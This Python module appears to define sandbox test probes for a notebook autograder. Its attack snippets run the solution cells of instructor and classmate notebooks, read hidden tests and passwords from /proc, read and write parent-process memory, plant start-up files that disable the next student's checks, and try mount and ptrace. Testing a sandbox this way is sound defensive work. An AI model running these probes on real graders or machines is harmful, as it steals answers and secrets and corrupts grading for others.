"""Row 6: out of the notebook, to the answers, to other students' work, to files of the grader."""

from __future__ import annotations

from .attack import LESSON, SEE_ABOVE, Attack, code

READ_SOURCE = """
    import json, pathlib

    def solve_from(path):
        for cell in json.loads(pathlib.Path(path).read_text())["cells"]:
            if cell["cell_type"] == "code" and cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]), globals())
        print("LOOT: the answers in", path)
"""


def _read(name: str, story: str, text: str) -> Attack:
    return Attack(
        name, 6, story, first=code(READ_SOURCE) + "\n\n" + code(text), answers=SEE_ABOVE, sandbox=True
    )


def look(name: str, story: str, text: str, row: int = 6) -> Attack:
    return Attack(name, row, story, first=code(text), sandbox=True)


_FILES = (
    _read(
        "source-read",
        "runs the solution cells of the source notebook",
        f'solve_from("@COURSE@/source_notebooks/{LESSON}/{LESSON}.ipynb")',
    ),
    _read(
        "source-found",
        "looks for the source notebook upwards from the current folder and from the course's package",
        f"""
        import course
        for start in (pathlib.Path.cwd(), pathlib.Path(course.__file__)):
            for folder in start.parents:
                for place in ("source_notebooks", "solutions"):
                    path = folder / place / "{LESSON}" / "{LESSON}.ipynb"
                    if path.is_file():
                        solve_from(path)
    """,
    ),
    _read(
        "neighbour-read",
        "runs the solution cells of another student's submission",
        f'solve_from("@WORKSPACE@/submitted/ada/{LESSON}/{LESSON}.ipynb")',
    ),
    _read(
        "neighbour-found",
        "tries every notebook in the folders around its own",
        """
        for path in pathlib.Path.cwd().parents[2].rglob("*.ipynb"):
            if "@STUDENT@" not in str(path):
                solve_from(path)
    """,
    ),
    look(
        "own-notebook",
        "reads the hidden tests in its own graded notebook",
        f"""
        import pathlib
        for path in ("{LESSON}.ipynb", "@WORKSPACE@/autograded/@STUDENT@/{LESSON}/{LESSON}.ipynb"):
            if pathlib.Path(path).is_file() and "hidden=True" in pathlib.Path(path).read_text():
                print("LOOT: hidden tests in", path)
    """,
    ),
    look(
        "gradebook-read",
        "reads the hidden tests in the gradebook",
        """
        import sqlite3
        gradebook = sqlite3.connect("file:@WORKSPACE@/gradebook.db?mode=ro", uri=True)
        query = "SELECT source FROM source_cell WHERE source LIKE '%HIDDEN TESTS%'"
        for (source,) in gradebook.execute(query):
            print("LOOT: a hidden test", source.splitlines()[0])
    """,
    ),
    look(
        "environment",
        "passwords in its own environment and in those of other processes",
        """
        import glob, os
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                content = open(path, "rb").read()
            except OSError:
                continue
            if b"correct-horse" in content and b"@TOKEN@" in content:
                print("LOOT: a password in", path)
        if "correct-horse" in str(os.environ):
            print("LOOT: a password in os.environ")
    """,
    ),
    look(
        "home",
        "reads private files in the home folder",
        """
        import pathlib
        for folder in ("@HOME@", pathlib.Path.home(), "/root", "/home"):
            for path in pathlib.Path(folder).rglob("private.txt"):
                print("LOOT:", path, path.read_text()[:9])
    """,
    ),
    look(
        "workspace-listed",
        "finds secrets, logs and other students by listing the workspace",
        """
        import os
        for folder in ("@WORKSPACE@", "@WORKSPACE@/submitted", "@WORKSPACE@/logs", "@COURSE@"):
            for name in os.listdir(folder):
                print("LOOT:", folder, name)
    """,
    ),
    look(
        "open-files",
        "reads what the grader has open, by way of /proc/*/fd and /proc/*/root",
        f"""
        import glob, os
        for path in glob.glob("/proc/[0-9]*/fd/[0-9]*") + glob.glob("/proc/[0-9]*/cwd"):
            try:
                target = os.readlink(path)
            except OSError:
                continue
            if target.startswith("@WORKSPACE@") and "@STUDENT@" not in target:
                print("LOOT:", target)
        for root in glob.glob("/proc/[0-9]*/root"):
            path = root + "@COURSE@/source_notebooks/{LESSON}/{LESSON}.ipynb"
            if os.path.exists(path):
                print("LOOT:", path)
    """,
    ),
    look(
        "grader-memory",
        "reads and writes the memory of the process that started it",
        """
        import os
        for number in {os.getppid(), 1} - {0, os.getpid()}:
            try:
                with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "r+b", 0) as memory:
                    start = int(maps.readline().split("-")[0], 16)
                    memory.seek(start)
                    if memory.read(4):
                        print("LOOT: the memory of process", number)
            except (OSError, ValueError):
                pass
    """,
    ),
    look(
        "package-rewritten",
        "may change the course's package, for all who come after",
        """
        import os, course, torch
        for module in (course, torch):
            if os.access(module.__file__, os.W_OK):
                print("LOOT: may write", module.__file__)
    """,
    ),
    look(
        "stowaways",
        "leaves files behind: in /tmp, in shared memory, at home, beside the gradebook",
        """
        import pathlib, tempfile
        for folder in ("/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), "@HOME@", "@WORKSPACE@", "."):
            try:
                (pathlib.Path(folder) / "@TOKEN@").write_text("still here")
            except OSError:
                pass
    """,
    ),
    look(
        "next-student",
        "start-up files for the next student's IPython, and Python files that the grader imports",
        """
        import pathlib
        startup = pathlib.Path.home() / ".ipython/profile_default/startup"
        for folder in (startup, pathlib.Path("@WORKSPACE@"), pathlib.Path("@COURSE@")):
            try:
                folder.mkdir(parents=True, exist_ok=True)
                (folder / "@TOKEN@.py").write_text("check = lambda *args, **kwargs: None")
            except OSError:
                pass
    """,
    ),
    look(
        "as-root",
        "mounts, raises its limits, attaches to its parent, makes namespaces of its own",
        """
        import ctypes, os, resource
        libc = ctypes.CDLL(None)
        if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0:
            libc.umount(b"/mnt")
            print("LOOT: may mount")
        if os.getppid() > 1 and libc.ptrace(0x4206, os.getppid(), 0, 0) == 0:  # PTRACE_SEIZE
            libc.ptrace(17, os.getppid(), 0, 0)
            print("LOOT: may trace its parent")
        if resource.getrlimit(resource.RLIMIT_AS)[1] not in (-1, 6 << 30):
            try:
                resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
                print("LOOT: may raise its limits")
            except (OSError, ValueError):
                pass
    """,
    ),
)


ATTACKS = _FILES
